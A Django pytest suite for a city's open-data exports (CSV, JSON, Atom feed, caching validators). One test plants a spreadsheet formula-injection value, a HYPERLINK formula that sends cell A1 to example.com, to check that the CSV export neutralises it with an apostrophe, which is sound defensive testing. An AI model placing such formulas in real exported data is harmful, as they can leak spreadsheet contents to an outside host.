"""Open data: the CSV and JSON datasets, the open data page, the Atom feed, conditional GET."""

import csv
import datetime
import io
import json
from xml.etree import ElementTree

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from networks.filters import NetworkFilter
from networks.models import ContentVersion, Network

from .factories import MembershipFactory, NetworkFactory, ThemeFactory

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def networks():
    youth = ThemeFactory(slug="giovani", name_it="Giovani", name_en="Youth")
    climate = ThemeFactory(slug="clima", name_it="Clima", name_en="Climate")
    eurodesk = NetworkFactory(
        slug="eurodesk", name_it="Eurodesk", name_en="Eurodesk", themes=[youth], scope="european"
    )
    MembershipFactory(
        network=eurodesk,
        joined_year=2007,
        sector_it="Informagiovani",
        sector_en="Youth information",
        department="Ufficio segreto",
        contact_person="Mario Bianchi",
        annual_fee=999,
        council_resolution="Delibera 1/2007",
    )
    unesco = NetworkFactory(
        slug="citta-creative-unesco",
        name_it="Città Creative UNESCO",
        name_en="",
        themes=[climate],
        scope="international",
    )
    MembershipFactory(network=unesco, joined_year=2021)
    NetworkFactory(slug="bozza", name_it="Rete in bozza", status=Network.Status.DRAFT)
    return {"eurodesk": eurodesk, "unesco": unesco}


def csv_rows(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


class TestDatasets:
    def test_csv_has_a_row_per_published_network_and_columns_per_language(self, client, networks):
        rows = csv_rows(client.get("/opendata/networks.csv"))
        assert [row["slug"] for row in rows] == ["citta-creative-unesco", "eurodesk"]
        eurodesk = rows[1]
        assert eurodesk["name_it"] == "Eurodesk"
        assert eurodesk["sector_it"] == "Informagiovani"
        assert eurodesk["sector_en"] == "Youth information"
        assert eurodesk["joined_year"] == "2007"
        assert eurodesk["themes"] == "giovani"
        assert eurodesk["themes_en"] == "Youth"
        assert eurodesk["url_it"] == "http://testserver/it/reti/eurodesk/"
        assert eurodesk["url_en"] == "http://testserver/en/networks/eurodesk/"
        assert rows[0]["name_en"] == ""  # untranslated: left empty, not guessed

    def test_csv_puts_an_apostrophe_before_a_text_a_spreadsheet_would_run(self, client, networks):
        eurodesk = networks["eurodesk"]
        eurodesk.name_it = '=HYPERLINK("https://example.com/?"&A1;"Eurodesk")'
        eurodesk.acronym = "@ED"
        eurodesk.promoter_it = "-Commissione europea"
        eurodesk.founded_year = 1990
        eurodesk.save()
        membership = eurodesk.memberships.get()
        membership.sector_en = "+youth"
        membership.save()
        row = csv_rows(client.get("/opendata/networks.csv"))[1]
        assert row["name_it"] == '\'=HYPERLINK("https://example.com/?"&A1;"Eurodesk")'
        assert row["acronym"] == "'@ED"
        assert row["promoter_it"] == "'-Commissione europea"
        assert row["sector_en"] == "'+youth"
        assert row["name_en"] == "Eurodesk"
        assert (row["founded_year"], row["joined_year"]) == ("1990", "2007")
        assert row["url_it"] == "http://testserver/it/reti/eurodesk/"
        # The JSON has the texts as they are: no spreadsheet reads it.
        record = client.get("/opendata/networks.json").json()["networks"][1]
        assert record["name"]["it"] == eurodesk.name_it
        assert record["sector"]["en"] == "+youth"

    def test_json_holds_the_same_networks(self, client, networks):
        data = client.get("/opendata/networks.json").json()
        assert data["count"] == 2
        assert data["licence"] == "https://creativecommons.org/licenses/by/4.0/"
        eurodesk = data["networks"][1]
        assert eurodesk["name"] == {"it": "Eurodesk", "en": "Eurodesk"}
        assert eurodesk["themes"] == [{"slug": "giovani", "name": {"it": "Giovani", "en": "Youth"}}]
        assert eurodesk["url"]["en"] == "http://testserver/en/networks/eurodesk/"

    @pytest.mark.parametrize("path", ["/opendata/networks.csv", "/opendata/networks.json"])
    def test_no_draft_and_no_internal_field_leaks(self, client, networks, path):
        content = client.get(path).content.decode()
        assert "Eurodesk" in content  # the published networks are there
        for secret in [
            "bozza",
            "Ufficio segreto",
            "Mario Bianchi",
            "999",
            "Delibera",
            "department",
        ]:
            assert secret not in content, secret

    @pytest.mark.parametrize(
        ("query", "slugs"),
        [
            ("theme=giovani", ["eurodesk"]),
            ("theme=giovani&theme=clima", ["citta-creative-unesco", "eurodesk"]),
            ("scope=international", ["citta-creative-unesco"]),
            ("joined_after=2010", ["citta-creative-unesco"]),
            ("joined_before=2010", ["eurodesk"]),
            ("q=citta", ["citta-creative-unesco"]),
            ("q=youth+information&lang=en", ["eurodesk"]),
            ("q=youth+information", []),
        ],
    )
    def test_the_list_filters_apply(self, client, networks, query, slugs):
        rows = csv_rows(client.get(f"/opendata/networks.csv?{query}"))
        assert [row["slug"] for row in rows] == slugs
        data = client.get(f"/opendata/networks.json?{query}").json()
        assert [network["slug"] for network in data["networks"]] == slugs

    @pytest.mark.parametrize(
        "path", ["/opendata/networks.csv", "/opendata/openapi.yaml", "/opendata/catalog"]
    )
    @pytest.mark.parametrize("method", ["post", "put", "delete"])
    def test_only_reading_is_allowed(self, client, networks, path, method):
        response = getattr(client, method)(path)
        assert response.status_code == 405
        assert response["Allow"] == "GET, HEAD"

    def test_every_filter_of_the_list_is_tried_above(self):
        tried = {"theme", "scope", "joined_after", "joined_before", "q", "order"}
        assert set(NetworkFilter.base_filters) == tried

    @pytest.mark.parametrize("language", ["it", "en"])
    @pytest.mark.parametrize("with_words", [False, True])
    def test_every_order_the_list_offers_orders_the_datasets_alike(
        self, client, networks, language, with_words
    ):
        zeta = NetworkFactory(slug="zeta", name_it="Zeta rete", name_en="A network")
        MembershipFactory(network=zeta, joined_year=2010)
        orders = [value for value, _label in NetworkFilter().filters["order"].field.choices]
        assert set(orders) == {"", "name", "-name", "joined", "-joined"}
        list_path = "/it/reti/" if language == "it" else "/en/networks/"
        words = ("rete" if language == "it" else "network") if with_words else ""
        seen = set()
        for order in orders:
            if not order and not words:
                continue  # without words the datasets keep their own order, by identifier
            query = {"order": order, "q": words, "lang": language}
            list_page = client.get(list_path, query)
            expected = [network.slug for network in list_page.context["network_list"]]
            rows = csv_rows(client.get("/opendata/networks.csv", query))
            assert [row["slug"] for row in rows] == expected, order
            data = client.get("/opendata/networks.json", query).json()
            assert [network["slug"] for network in data["networks"]] == expected, order
            seen.add(tuple(expected))
        assert len(seen) >= 4  # the four orders by name and year differ: one ignored would show

    def test_without_words_or_order_the_datasets_go_by_identifier(self, client, networks):
        NetworkFactory(slug="aaa", name_it="Zeta")
        rows = csv_rows(client.get("/opendata/networks.csv"))
        assert [row["slug"] for row in rows] == ["aaa", "citta-creative-unesco", "eurodesk"]

    @pytest.mark.parametrize(
        "query",
        [
            "theme=nessuno",
            "joined_after=ieri",
            "scope=planetary",
            "lang=xx",
            "q=" + "x" * 300,
            "joined_before=1990&joined_before=2000",  # which? Django would take the last
        ],
    )
    @pytest.mark.parametrize("path", ["/opendata/networks.csv", "/opendata/networks.json"])
    def test_bad_input_gets_a_400_problem_document(self, client, networks, path, query):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 400
        assert response["Content-Type"] == "application/problem+json"
        problem = json.loads(response.content)
        assert (problem["type"], problem["status"]) == ("about:blank", 400)
        assert problem["detail"] == "Alcuni parametri non sono validi: vedi errors."
        [(parameter, [error])] = problem["errors"].items()
        assert parameter == query.split("=")[0]
        assert error["message"] and error["code"]


class TestConditionalGet:
    @pytest.mark.parametrize(
        "path", ["/opendata/networks.csv", "/opendata/networks.json", "/it/reti/feed/"]
    )
    def test_unchanged_data_gets_a_304(self, client, networks, path):
        first = client.get(path)
        assert first.status_code == 200
        assert client.get(path, headers={"if-none-match": first["ETag"]}).status_code == 304
        since = first["Last-Modified"]
        assert client.get(path, headers={"if-modified-since": since}).status_code == 304

    def test_a_change_gives_a_new_etag(self, client, networks):
        first = client.get("/opendata/networks.json")
        networks["eurodesk"].themes.clear()
        again = client.get("/opendata/networks.json", headers={"if-none-match": first["ETag"]})
        assert again.status_code == 200
        assert again.json()["networks"][1]["themes"] == []


# Every address whose content follows the networks, with the page cache on and off.
FOLLOWING_THE_CONTENT = [
    "/it/reti/feed/",
    "/en/networks/feed/",
    "/sitemap.xml",
    "/sitemap-networks.xml",
    "/robots.txt",
    "/opendata/networks.csv",
    "/opendata/catalog.ttl",
]


class TestValidatorsFollowTheContent:
    @pytest.fixture(params=["page cache", "no page cache"])
    def page_cache(self, request, settings):
        if request.param == "no page cache":
            settings.PAGE_CACHE_SECONDS = 0

    @pytest.mark.parametrize("path", FOLLOWING_THE_CONTENT)
    def test_validators_with_or_without_the_page_cache(self, client, networks, page_cache, path):
        response = client.get(path)
        assert response.status_code == 200
        assert response["ETag"] and response["Last-Modified"]
        assert client.get(path, headers={"if-none-match": response["ETag"]}).status_code == 304

    @pytest.mark.parametrize("change", ["unpublish", "delete"])
    @pytest.mark.parametrize("path", FOLLOWING_THE_CONTENT)
    def test_an_unpublished_or_deleted_network_moves_them(
        self, client, networks, page_cache, path, change
    ):
        # A minute ago, so that the change is in another second of Last-Modified.
        ContentVersion.objects.update(changed_at=timezone.now() - datetime.timedelta(minutes=1))
        cache.clear()
        first = client.get(path)
        eurodesk = networks["eurodesk"]
        if change == "delete":
            eurodesk.delete()
        else:
            eurodesk.status = Network.Status.DRAFT
            eurodesk.save()
        for header, name in [("if-none-match", "ETag"), ("if-modified-since", "Last-Modified")]:
            again = client.get(path, headers={header: first[name]})
            assert again.status_code == 200, (header, path)
        assert again["Last-Modified"] != first["Last-Modified"] or again["ETag"] != first["ETag"]


class TestFeed:
    def test_feed_lists_published_networks_newest_first_in_each_language(self, client, networks):
        networks["eurodesk"].save()  # updated last
        for path, title in [("/it/reti/feed/", "Eurodesk"), ("/en/networks/feed/", "Eurodesk")]:
            response = client.get(path)
            assert response["Content-Type"].startswith("application/atom+xml")
            feed = ElementTree.fromstring(response.content)
            titles = [entry.find(f"{ATOM}title").text for entry in feed.iter(f"{ATOM}entry")]
            assert titles[0] == title
            assert "Rete in bozza" not in titles
            assert len(titles) == 2
        english = ElementTree.fromstring(client.get("/en/networks/feed/").content)
        links = [link.get("href") for link in english.iter(f"{ATOM}link")]
        assert "http://testserver/en/networks/eurodesk/" in links

    def test_the_feed_names_the_comune_as_its_author(self, client, networks):
        feed = ElementTree.fromstring(client.get("/it/reti/feed/").content)
        author = feed.find(f"{ATOM}author")
        assert author.find(f"{ATOM}name").text == "Comune di Modena"
        assert author.find(f"{ATOM}uri").text == "https://www.comune.modena.it/"

    def test_the_feed_is_updated_when_a_network_is_taken_out(self, client, networks):
        def updated():
            feed = ElementTree.fromstring(client.get("/it/reti/feed/").content)
            return feed.find(f"{ATOM}updated").text

        ContentVersion.objects.update(changed_at=timezone.now() - datetime.timedelta(days=1))
        cache.clear()
        before = updated()
        networks["eurodesk"].delete()
        assert updated() > before

    def test_summaries_are_plain_text_so_markup_is_shown_not_run(self, client, networks):
        networks["eurodesk"].summary_it = "Per i <b>giovani</b> & le scuole"
        networks["eurodesk"].save()
        feed = ElementTree.fromstring(client.get("/it/reti/feed/").content)
        summaries = {
            entry.find(f"{ATOM}title").text: entry.find(f"{ATOM}summary")
            for entry in feed.iter(f"{ATOM}entry")
        }
        assert summaries["Eurodesk"].get("type") == "text"
        assert summaries["Eurodesk"].text == "Per i <b>giovani</b> & le scuole"

    def test_an_entry_keeps_its_id_when_its_address_changes(self, client, networks):
        def ids():
            feed = ElementTree.fromstring(client.get("/it/reti/feed/").content)
            return {
                entry.find(f"{ATOM}title").text: entry.find(f"{ATOM}id").text
                for entry in feed.iter(f"{ATOM}entry")
            }

        before = ids()
        networks["eurodesk"].slug = "eurodesk-italia"
        networks["eurodesk"].save()
        assert ids() == before
        assert before["Eurodesk"].startswith("tag:www.comune.modena.it,")
        english = ElementTree.fromstring(client.get("/en/networks/feed/").content)
        assert before["Eurodesk"] not in {e.text for e in english.iter(f"{ATOM}id")}


class TestOpenDataPage:
    @pytest.mark.parametrize(
        ("path", "title"), [("/it/dati-aperti/", "Dati aperti"), ("/en/open-data/", "Open data")]
    )
    def test_page_describes_the_datasets_licence_and_fields(self, client, path, title):
        content = client.get(path).content.decode()
        assert f"<h1>{title}</h1>" in content
        assert 'href="/opendata/networks.csv"' in content
        assert 'href="/opendata/networks.json"' in content
        assert "CC BY 4.0" in content
        assert "<code>name_en</code>" in content

    @pytest.mark.parametrize(
        ("path", "note"),
        [
            ("/it/dati-aperti/", "è preceduto da un apostrofo (<code>'</code>)"),
            ("/en/open-data/", "has an apostrophe (<code>'</code>) before it"),
        ],
    )
    def test_page_tells_how_the_csv_keeps_formulas_texts(self, client, path, note):
        assert note in client.get(path).content.decode()

    def test_list_page_links_to_the_data(self, client):
        assert (
            'href="/it/dati-aperti/">Scarica i dati</a>' in client.get("/it/reti/").content.decode()
        )


@pytest.mark.parametrize("address", ["/opendata/networks.csv", "/opendata/networks.json"])
def test_the_files_take_as_many_queries_for_many_networks_as_for_a_few(client, address):
    """Read as plain values in a few queries: never a query, or a reverse(), per network."""

    def queries():
        cache.clear()
        with CaptureQueriesContext(connection) as captured:
            response = client.get(address)
        assert response.status_code == 200
        return len(captured)

    themes = ThemeFactory.create_batch(2)
    for _ in range(2):
        MembershipFactory(network=NetworkFactory(themes=themes))
    few = queries()
    for _ in range(20):
        MembershipFactory(network=NetworkFactory(themes=themes))
    assert queries() == few


class TestBuiltAhead:
    """The files without filters, built ahead by build_open_data while the content stands."""

    FILES = ["/opendata/networks.csv", "/opendata/networks.json"]

    @pytest.fixture(autouse=True)
    def site_url(self, settings):
        settings.SITE_URL = "http://testserver"  # the requests' own: the same addresses

    def network_reads(self, client, address):
        """Return the response to `address` and how many of its queries read the networks."""
        with CaptureQueriesContext(connection) as captured:
            response = client.get(address)
        assert response.status_code == 200
        return response, sum('FROM "networks_network"' in query["sql"] for query in captured)

    @pytest.mark.parametrize("address", FILES)
    def test_a_file_built_ahead_is_the_one_built_for_the_request(self, client, networks, address):
        client.get("/it/reti/")  # the content version in the cache, as on a running site
        built_for_the_request, reads = self.network_reads(client, address)
        assert reads > 0
        call_command("build_open_data", stdout=io.StringIO())
        built_ahead, reads = self.network_reads(client, address)
        assert reads == 0
        assert built_ahead.content == built_for_the_request.content
        assert built_ahead["Content-Type"] == built_for_the_request["Content-Type"]

    def test_an_edit_shows_at_once_and_the_next_build_takes_it(self, client, networks):
        call_command("build_open_data", stdout=io.StringIO())
        eurodesk = networks["eurodesk"]
        eurodesk.name_it = "Eurodesk Italia"
        eurodesk.save()
        for address in self.FILES:
            assert "Eurodesk Italia" in client.get(address).content.decode()
        output = io.StringIO()
        call_command("build_open_data", stdout=output)
        assert output.getvalue() == "Built networks.csv, networks.json\n"
        response, reads = self.network_reads(client, "/opendata/networks.json")
        assert reads == 0
        assert "Eurodesk Italia" in response.content.decode()

    def test_a_filtered_file_is_built_for_its_request(self, client, networks):
        call_command("build_open_data", stdout=io.StringIO())
        rows = csv_rows(client.get("/opendata/networks.csv", {"scope": "european"}))
        assert [row["slug"] for row in rows] == ["eurodesk"]

    def test_building_again_for_the_same_content_builds_nothing(self, networks):
        call_command("build_open_data", stdout=io.StringIO())
        output = io.StringIO()
        call_command("build_open_data", stdout=output)
        assert output.getvalue() == ""
        call_command("build_open_data", force=True, stdout=output)
        assert output.getvalue() == "Built networks.csv, networks.json\n"
